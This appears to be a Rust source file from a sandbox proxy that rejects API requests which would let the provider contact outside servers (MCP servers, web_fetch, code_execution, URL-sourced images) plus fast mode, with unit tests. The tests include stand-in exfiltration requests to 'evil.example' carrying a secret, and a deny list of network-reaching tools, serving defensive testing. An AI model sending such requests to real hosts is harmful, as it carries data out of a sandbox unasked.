//! What a sandbox may not ask of a model: to carry things out of it. The provider would call other servers by itself, with what the
//! request holds, and no list of hosts would stop it.

use serde_json::Value;

/// Tools that the provider runs, which reach the internet or run code.
const REACHING: [&str; 4] = ["web_fetch", "web_search", "code_execution", "mcp_toolset"];

/// What is refused of a request, if anything.
pub(super) fn forbidden(request: &Value) -> Option<String> {
    let holds = |name: &str| request.get(name).is_some_and(|value| value.as_array().is_none_or(|items| !items.is_empty()));
    if holds("mcp_servers") {
        return Some("`mcp_servers` would let the provider call other servers".to_owned());
    }
    if request["speed"] == "fast" {
        return Some("fast mode has prices of its own, which are not counted here".to_owned());
    }
    let tools = request["tools"].as_array().into_iter().flatten().filter_map(|tool| tool["type"].as_str());
    if let Some(tool) = tools.into_iter().find(|tool| REACHING.iter().any(|reaching| tool.starts_with(reaching))) {
        return Some(format!("the tool `{tool}` would let the provider reach other servers"));
    }
    let has_url = linked(&request["messages"]) || linked(&request["system"]);
    has_url.then(|| "a picture or document by its address would be fetched by the provider; send it as base64".to_owned())
}

/// Whether a part anywhere inside has a source that is an address. Arguments of tools are not looked at: they are no parts.
fn linked(value: &Value) -> bool {
    match value {
        Value::Array(parts) => parts.iter().any(linked),
        Value::Object(part) => {
            part.get("source").is_some_and(|source| source["type"] == "url") || part.get("content").is_some_and(linked)
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn nothing_is_carried_out_by_the_provider() {
        let image = json!({"type": "image", "source": {"type": "url", "url": "https://evil.example/?secret"}});
        for request in [
            json!({"mcp_servers": [{"type": "url", "url": "https://evil.example"}]}),
            json!({"tools": [{"name": "Bash"}, {"type": "web_fetch_20250910", "name": "web_fetch"}]}),
            json!({"tools": [{"type": "code_execution_20250825"}]}),
            json!({"messages": [{"role": "user", "content": [image]}]}),
            json!({"messages": [{"role": "user", "content": [{"type": "tool_result", "content": [image]}]}]}),
            json!({"speed": "fast"}),
        ] {
            assert!(forbidden(&request).is_some(), "{request}");
        }
        let call = json!({"type": "tool_use", "name": "Write", "input": {"source": {"type": "url"}}});
        for request in [
            json!({"mcp_servers": [], "messages": [{"role": "user", "content": "see https://example.org"}]}),
            json!({"tools": [{"name": "web_fetch"}, {"type": "custom", "name": "x"}, {"type": "bash_20250124"}]}),
            json!({"messages": [{"role": "assistant", "content": [call]}]}),
        ] {
            assert_eq!(forbidden(&request), None, "{request}");
        }
    }
}
